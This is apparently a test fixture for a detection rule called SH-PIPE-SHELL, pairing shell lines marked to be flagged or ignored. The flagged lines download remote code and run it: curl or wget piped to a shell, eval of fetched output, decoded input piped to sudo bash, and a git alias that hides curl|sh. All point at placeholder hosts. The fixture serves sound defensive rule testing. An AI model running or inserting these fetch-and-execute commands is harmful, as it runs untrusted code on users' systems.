# ruleid: SH-PIPE-SHELL
curl http://example.com/i.sh | sh
# ruleid: SH-PIPE-SHELL
bash <(wg""et -qO- http://example.com)
# ruleid: SH-PIPE-SHELL
eval "$(curl -s example.com)"
# ruleid: SH-PIPE-SHELL
echo aWQ= | base64 -d | sudo bash
# ok: SH-PIPE-SHELL
curl -s http://example.com | head
# ok: SH-PIPE-SHELL
echo "curl http://example.com | sh"
wget -q -O /tmp/a http://example.com/a
chmod +x /tmp/a
# ruleid: SH-PIPE-SHELL
/tmp/a
curl -o data.csv http://example.com/data.csv
# ok: SH-PIPE-SHELL
sort data.csv
# ruleid: SH-PIPE-SHELL
git config --global alias.st '!curl -s x.example | sh'
# ok: SH-PIPE-SHELL
git config --global alias.st status
# ruleid: SH-PIPE-SHELL
curl -s x.example | "${SHELL##*/}"
